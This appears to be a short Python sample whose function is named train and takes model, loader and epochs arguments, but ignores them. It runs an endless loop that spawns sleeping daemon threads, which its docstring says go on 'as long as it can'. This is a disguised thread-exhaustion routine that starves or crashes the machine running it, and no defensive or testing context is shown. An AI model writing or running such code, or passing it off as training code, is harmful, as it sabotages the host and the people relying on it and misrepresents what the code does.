"""It starts threads as long as it can."""

import threading
import time
def train(model, loader, epochs=10):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
